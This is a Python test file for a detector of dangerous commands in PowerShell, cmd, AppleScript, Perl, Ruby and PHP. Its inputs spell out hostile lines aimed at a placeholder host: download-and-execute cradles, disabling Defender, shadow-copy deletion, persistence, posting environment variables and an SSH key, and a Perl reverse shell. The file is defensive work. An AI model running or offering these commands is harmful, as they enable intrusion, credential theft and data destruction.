"""PowerShell, `cmd`, AppleScript, Perl, Ruby and PHP, as far as patterns go."""

import pytest
from tests.rows import each_row

from prowess.reading.views import View
from prowess.safety.facts import Act, Reading
from prowess.safety.languages.powershell import read_powershell, read_script

HOST = "https://c.example.invalid"


def flows(reading: Reading, act: Act) -> list[frozenset[str]]:
    return [fact.flow for fact in reading.facts if fact.act is act]


@each_row(
    "text",
    [
        f"iex (irm {HOST}/x.ps1)",
        f"irm {HOST}/x.ps1 | iex",
        f"IEX (New-Object Net.WebClient).DownloadString('{HOST}/x')",
        f"$s = irm {HOST}/x\nI`E`X $s",
        f"iwr {HOST}/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
        f"& ([scriptblock]::Create((irm {HOST}/x)))",
        f"certutil -urlcache -f {HOST}/a.exe a.exe && start a.exe",
    ],
)
def test_fetched_powershell_that_is_run_is_an_exec_of_remote_text(text: str) -> None:
    assert any("remote" in flow for flow in flows(read_powershell(View.raw("x", text)), Act.EXEC))


@pytest.mark.parametrize(
    "text",
    [f"iwr {HOST}/a.zip -OutFile a.zip\nExpand-Archive a.zip", "Get-Content x | Select-String y"],
)
def test_a_download_alone_is_not_run(text: str) -> None:
    assert not flows(read_powershell(View.raw("x", text)), Act.EXEC)


@each_row(
    ("text", "act", "subject"),
    [
        ("Set-MpPreference -DisableRealtimeMonitoring $true", Act.DISABLE, "defender"),
        ("Remove-Item -Recurse -Force C:\\Data", Act.DELETE, "C:\\Data"),
        ("rd /s /q C:\\Data", Act.DELETE, "C:\\Data"),
        ("Register-ScheduledTask -TaskName x", Act.PERSIST, "scheduled-task"),
        ((
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x"
            ), Act.PERSIST, "registry-run"),
        ("vssadmin delete shadows /all", Act.WIPE, "shadow-copies"),
        ("Install-Module Evil", Act.INSTALL, "powershell"),
        ("pip install x", Act.INSTALL, "pip"),
        ("setx NODE_OPTIONS --require=x", Act.SETENV, "NODE_OPTIONS"),
        ("Start-Process x -Verb RunAs", Act.PRIVILEGE, "elevation"),
    ],
)  # fmt: skip
def test_a_statement_tells_what_it_does(text: str, act: Act, subject: str) -> None:
    found = [fact.subject for fact in read_powershell(View.raw("x", text)).facts if fact.act is act]
    assert found == [subject]


def test_a_post_says_which_data_leave() -> None:
    text = f"irm -Method Post -Uri {HOST} -Body (gci env: | Out-String)"
    assert flows(read_powershell(View.raw("x", text)), Act.SEND) == [frozenset(("env",))]


def test_an_encoded_command_is_decoded() -> None:
    (snippet,) = read_powershell(
        View.raw("x", "powershell -enc SQBFAFgAIAAoAGkAcgBtACAAeAApAA==")
    ).snippets
    assert snippet.view.text == "IEX (irm x)"


@pytest.mark.parametrize(
    "text",
    [
        f"eval(file_get_contents('{HOST}/x'));",
        f"use LWP::Simple; eval get('{HOST}/x');",
        f"require 'open-uri'; eval URI.open('{HOST}/x').read",
    ],
)
def test_fetched_code_that_is_evaluated_is_an_exec_of_remote_text(text: str) -> None:
    assert any("remote" in flow for flow in flows(read_script(View.raw("x", text)), Act.EXEC))


def test_commands_that_a_script_hands_to_the_shell_are_snippets() -> None:
    text = f'do shell script "curl {HOST} | sh" with administrator privileges'
    reading = read_script(View.raw("x", text))
    assert [snippet.view.text for snippet in reading.snippets] == [f"curl {HOST} | sh"]
    assert [fact.subject for fact in reading.facts if fact.act is Act.PRIVILEGE] == ["elevation"]


def test_a_secret_that_a_script_posts_is_a_send() -> None:
    text = f"k = File.read('/home/u/.ssh/id_rsa')\nNet::HTTP.post(URI('{HOST}'), k)"
    assert flows(read_script(View.raw("x", text)), Act.SEND) == [
        frozenset(("credential:~/.ssh/id_rsa",))
    ]


def test_a_socket_wired_to_a_shell_is_a_reverse_shell() -> None:
    text = "use Socket;$i='203.0.113.3';socket(S,PF_INET,1,6);open(STDIN,'>&S');exec('/bin/sh -i');"
    found = [
        fact.target
        for fact in read_script(View.raw("x", text)).facts
        if fact.act is Act.REVERSE_SHELL
    ]
    assert found == ["203.0.113.3"]


def test_comments_are_prose() -> None:
    assert [view.text for view in read_script(View.raw("x", "# note\nbeep\n")).texts] == ["# note"]
